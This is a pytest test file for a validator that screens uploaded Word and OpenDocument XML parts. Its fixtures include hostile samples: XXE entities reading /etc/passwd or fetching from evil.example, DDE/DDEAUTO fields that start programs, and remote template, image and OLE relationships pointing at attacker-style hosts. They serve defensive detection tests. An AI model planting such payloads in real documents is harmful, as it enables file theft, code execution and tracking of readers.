import io

import pytest

from meetings.intake.office.markup import DEEPEST, refusal_of_part
from meetings.intake.verdict import Reason

W = 'xmlns:w="urn:word"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def judged(content: str | bytes) -> Reason | None:
    content = content.encode() if isinstance(content, str) else content
    return refusal_of_part(io.BytesIO(content), "part.xml")


def relationship(kind: str, target: str, mode: str = "External") -> str:
    return (
        f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"'
        f" TargetMode='{mode}'/></Relationships>"
    )


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "start",
    [
        '<!DOCTYPE a [<!ENTITY x "y">]>',
        '<!DOCTYPE a SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>',
        "<!DOCTYPE a>",
    ],
)
def test_a_document_type_is_refused_in_every_encoding(start, encoding):
    content = f'<?xml version="1.0" encoding="{encoding}"?>{start}<a/>'
    assert judged(content.encode(encoding)) is Reason.ACTIVE_CONTENT


@pytest.mark.parametrize("content", ["", "<a>", "<a></b>", "no xml", "<a>&x;</a>", b"<a>\xff</a>"])
def test_what_is_no_xml_is_damaged(content):
    assert judged(content) is Reason.DAMAGED


def test_a_part_nested_beyond_sense_is_a_bomb():
    depth = DEEPEST + 1
    assert judged("<a>" * depth + "</a>" * depth) is Reason.BOMB
    assert judged("<a>" * 200 + "</a>" * 200) is None


@pytest.mark.parametrize(
    "field",
    [
        '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32 "x"</w:instrText></w:r>',
        "<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E excel</w:instrText></w:r>",
        '<w:fldSimple w:instr=" DDE cmd x"/>',
        "<w:r><w:instrText>QUOTE {DDE a}</w:instrText></w:r>",
    ],
)
def test_a_field_that_starts_a_program_is_refused(field):
    assert judged(f"<w:p {W}>{field}</w:p>") is Reason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "text",
    [
        "<w:r><w:t>DDE excel</w:t></w:r>",
        "<w:r><w:instrText> PAGE </w:instrText></w:r>",
        "<w:r><w:instrText> HYPERLINK http://dde.example </w:instrText></w:r>",
        '<w:fldSimple w:instr="NUMPAGES"/>',
    ],
)
def test_other_fields_and_words_about_programs_are_good(text):
    assert judged(f"<w:p {W}>{text}</w:p>") is None


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\server\\share\\t.dotm"),
        ("image", "https://evil.example/pixel.png"),
        ("image", "file:////server/share/pixel.png"),
        ("image", "file://server/share/pixel.png"),
        ("frame", " HTTP://evil.example/"),
        ("subDocument", "ftp://evil.example/x.docx"),
        ("oleObject", "file:///C:/book.xls"),
        ("oleObject", "mhtml:http://evil.example"),
        ("externalLinkPath", "//server/book.xlsx"),
    ],
)
def test_a_part_that_would_be_fetched_is_refused(kind, target):
    assert judged(relationship(kind, target)) is Reason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [
        ("hyperlink", "https://thuvienphapluat.vn", "External"),
        ("hyperlink", "mailto:a@b.vn", "External"),
        ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", "External"),
        ("externalLinkPath", "Book1.xlsx", "External"),
        ("image", "media/image1.png", "Internal"),
    ],
)
def test_links_and_local_parts_are_good(kind, target, mode):
    assert judged(relationship(kind, target, mode)) is None


@pytest.mark.parametrize(
    ("element", "reason"),
    [
        ('<a:image b:href="http://evil.example/x.png"/>', Reason.ACTIVE_CONTENT),
        ('<a:section-source b:href="https://evil.example/x.odt"/>', Reason.ACTIVE_CONTENT),
        ('<a:plugin b:href="x"/>', Reason.ACTIVE_CONTENT),
        ("<a:dde-source/>", Reason.ACTIVE_CONTENT),
        ("<a:ddeLink/>", Reason.ACTIVE_CONTENT),
        ("<a:event-listener/>", Reason.MACROS),
        ("<a:encryption-data/>", Reason.ENCRYPTED),
        ('<a:image b:href="Pictures/1.png"/>', None),
        ('<a:a b:href="https://thuvienphapluat.vn"/>', None),
    ],
)
def test_elements_of_open_documents_are_judged_whatever_their_prefix(element, reason):
    assert judged(f'<x xmlns:a="urn:a" xmlns:b="urn:b">{element}</x>') is reason
